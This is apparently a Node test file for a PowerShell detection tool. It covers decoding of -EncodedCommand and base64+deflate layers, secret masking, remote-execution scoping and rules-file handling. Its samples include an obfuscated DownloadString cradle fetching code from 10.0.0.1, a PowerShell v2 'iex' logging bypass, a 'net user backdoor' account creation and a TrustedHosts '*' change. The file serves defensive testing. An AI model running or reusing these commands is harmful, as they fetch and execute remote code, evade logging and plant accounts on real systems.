// Units: decoding (-EncodedCommand, base64+deflate, bounds), secret masking, the rules file (severity,
// suppression, allow-lists, scope), --fail-on. Inputs are small hand-made strings and synthetic events.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { deflateRawSync } from 'node:zlib';
import { decodeLayers, DEFAULT_CONFIG, exitCodeFor, findingsFor, findSecrets, maskSecrets, MASK, parseSeverity } from '../../detectors/findings/index.js';
import { parseRulesConfig, RulesConfigError } from '../../detectors/findings/config.js';
import type { SessionLike } from '../../detectors/findings/session-shape.js';
import { processCreate, scriptBlock } from '../support/events.js';

const T = '2024-03-01T10:00:00.000Z';
const enc = (s: string): string => Buffer.from(s, 'utf16le').toString('base64');

test('-EncodedCommand in every abbreviation, nested base64+deflate, garbage refused', () => {
  for (const flag of ['-e', '-ec', '-en', '-enc', '-EncodedCommand', '/enc', '-ENCOD']) {
    const d = decodeLayers(`powershell.exe -nop ${flag} ${enc('Write-Host hello')}`);
    assert.deepEqual(d.texts, ['Write-Host hello'], flag);
  }
  const inner = deflateRawSync(Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.1/a')"));
  const outer = `sal a New-Object;iex(a IO.StreamReader((a IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('${inner.toString('base64')}'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()`;
  const d = decodeLayers(`powershell -w hidden -enc ${enc(outer)}`);
  assert.equal(d.texts.length, 2);
  assert.match(d.texts[1], /DownloadString\('http:\/\/10\.0\.0\.1\/a'\)/);
  assert.deepEqual(d.layers, ['EncodedCommand (base64, UTF-16LE)', 'FromBase64String + deflate/gzip']);
  // Random bytes are not "decoded" into garbage.
  assert.deepEqual(decodeLayers(`powershell -enc ${Buffer.from(Array.from({ length: 90 }, (_, i) => (i * 97 + 13) % 256)).toString('base64')}`).texts, []);
  // Depth and size are bounded: a 2 MB blob is ignored, nesting stops.
  assert.deepEqual(decodeLayers(`powershell -enc ${'A'.repeat(2_000_000)}`).texts, []);
  let nested = 'whoami';
  for (let i = 0; i < 6; i++) nested = `powershell -enc ${enc(nested)}`;
  assert.equal(decodeLayers(nested).texts.length, 3);
});

test('secrets: found and masked, length not revealed, variables left alone', () => {
  const cases: [string, string][] = [
    ['$p = ConvertTo-SecureString "S3cret!" -AsPlainText -Force', `$p = ConvertTo-SecureString "${MASK}" -AsPlainText -Force`],
    ["ConvertTo-SecureString -String 'pa ss' -AsPlainText -Force", `ConvertTo-SecureString -String '${MASK}' -AsPlainText -Force`],
    ["ConvertTo-SecureString -AsPlainText -Force -String 'x1'", `ConvertTo-SecureString -AsPlainText -Force -String '${MASK}'`],
    ["New-Object PSCredential('CORP\\bob', 'hunter2')", `New-Object PSCredential('CORP\\bob', '${MASK}')`],
    ['net user backdoor P@ssw0rd1 /add /domain', `net user backdoor ${MASK} /add /domain`],
    ['net use \\\\srv1\\c$ Winter2024 /user:CORP\\bob', `net use \\\\srv1\\c$ ${MASK} /user:CORP\\bob`],
    ['winrs -r:srv1 -u:CORP\\bob -p:Spring1 ipconfig', `winrs -r:srv1 -u:CORP\\bob -p:${MASK} ipconfig`],
    ['cmdkey /add:srv1 /user:bob /pass:Summer9', `cmdkey /add:srv1 /user:bob /pass:${MASK}`],
  ];
  for (const [text, want] of cases) assert.equal(maskSecrets(text), want, text);
  assert.deepEqual(findSecrets('ConvertTo-SecureString $pw -AsPlainText -Force'), []);
  assert.deepEqual(findSecrets('net user bob /domain'), []);
  assert.deepEqual(findSecrets('net user bob * /add'), []);
  assert.deepEqual(findSecrets('Get-Process'), []);
});

test('a credential finding never carries the secret, in any field (synthetic)', () => {
  const e = processCreate('srv1', T, 'cmd.exe /c net user svc_backup Xy7#secretpw /add', { parent: 'wsmprovhost.exe' });
  const fs = findingsFor([e], { sessions: [] });
  assert.deepEqual(fs.map((f) => f.rule), ['credential.plaintext']);
  assert.ok(!JSON.stringify(fs).includes('Xy7#secretpw'));
  assert.match(fs[0].summary, /svc_backup \*{8} \/add/);
});

const local = (text: string) => scriptBlock('ws9.corp.local', T, text, 777);

test('command scope: local commands only with command_scope "any"; remote ones by default (synthetic)', () => {
  const cradle = "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.1/x.ps1')";
  assert.deepEqual(findingsFor([local(cradle)], { sessions: [] }), []);
  const any = { ...DEFAULT_CONFIG, options: { ...DEFAULT_CONFIG.options, command_scope: 'any' as const } };
  assert.deepEqual(findingsFor([local(cradle)], { sessions: [] }, any).map((f) => f.rule), ['command.download-cradle']);
  // ServerRemoteHost (in the remoting plug-in) is remote by itself.
  assert.deepEqual(findingsFor([scriptBlock('ws9', T, cradle, 1, true)], { sessions: [] }).map((f) => f.rule), ['command.download-cradle']);
  // A grandchild of wsmprovhost.exe, found through the process tree.
  const child = processCreate('ws9', T, 'powershell.exe -nop -c whoami', { pid: 10, parent: 'wsmprovhost.exe', parentPid: 9 });
  const grandchild = processCreate('ws9', T, 'cmd.exe /c powershell -v 2 -c "iex $x"', { pid: 11, parent: 'powershell.exe', parentPid: 10 });
  assert.deepEqual(findingsFor([child, grandchild], { sessions: [] }).map((f) => f.rule), ['command.logging-bypass']);
  // Inside a session's window on its destination.
  const s: SessionLike = { session_id: 'x', kind: 'psremoting', paired: true, source: { host: 'a' }, destination: { host: 'ws9.corp.local' }, user: {}, start: T, end: T, commands: [], confidence: 1, evidence: [] };
  const fs = findingsFor([local(cradle)], { sessions: [s] });
  assert.deepEqual(fs.map((f) => `${f.rule} ${f.session_ids.join()}`).sort(), ['command.download-cradle x', 'remote-exec.psremoting x']);
});

test('rules file: severity, per-rule and per-family off, allow-lists, bad files refused', () => {
  const s: SessionLike = { session_id: 'x', kind: 'psremoting', paired: true, source: { host: 'jump01.corp.local' }, destination: { host: 'srv1.corp.local' }, user: { name: 'admin', domain: 'CORP' }, start: T, end: T, commands: [], confidence: 1, evidence: [] };
  const th = scriptBlock('srv7', T, "Set-Item WSMan:\\localhost\\Client\\TrustedHosts -Value '*'");
  const run = (json: string) => findingsFor([th], { sessions: [s] }, parseRulesConfig(json)).map((f) => `${f.rule}:${f.severity}`).sort();
  assert.deepEqual(run('{}'), ['posture.trustedhosts:high', 'remote-exec.psremoting:high']);
  assert.deepEqual(run('{"rules":{"remote-exec.psremoting":{"severity":"low"}}}'), ['posture.trustedhosts:high', 'remote-exec.psremoting:low']);
  assert.deepEqual(run('{"rules":{"posture":{"enabled":false}}}'), ['remote-exec.psremoting:high']);
  assert.deepEqual(run('{"rules":{"posture":{"severity":"info"},"posture.trustedhosts":{"severity":"critical"}}}'), ['posture.trustedhosts:critical', 'remote-exec.psremoting:high']);
  assert.deepEqual(run('{"allow":{"source_hosts":["JUMP01"]}}'), ['posture.trustedhosts:high']);
  assert.deepEqual(run('{"allow":{"users":["corp\\\\admin"]}}'), ['posture.trustedhosts:high']);
  assert.deepEqual(run('{"allow":{"hosts":["srv7"]}}'), ['remote-exec.psremoting:high']);
  assert.deepEqual(run('{"allow":{"commands":["TrustedHosts"]}}'), ['remote-exec.psremoting:high']);
  const id = findingsFor([th], { sessions: [] })[0].finding_id;
  assert.deepEqual(run(JSON.stringify({ allow: { findings: [id] } })), ['remote-exec.psremoting:high']);
  for (const bad of ['{', '{"rules":{"x":{"severity":"urgent"}}}', '{"allow":{"commands":["("]}}', '{"nope":1}', '{"options":{"failure_burst_count":1}}']) {
    assert.throws(() => parseRulesConfig(bad), RulesConfigError, bad);
  }
});

test('--fail-on: exit 3 at or above the severity, else 0', () => {
  const fs = [{ severity: 'medium' as const }, { severity: 'low' as const }];
  assert.equal(exitCodeFor(fs, 'info'), 3);
  assert.equal(exitCodeFor(fs, 'medium'), 3);
  assert.equal(exitCodeFor(fs, 'high'), 0);
  assert.equal(exitCodeFor([], 'info'), 0);
  assert.equal(parseSeverity('HIGH'), 'high');
  assert.equal(parseSeverity('severe'), undefined);
});
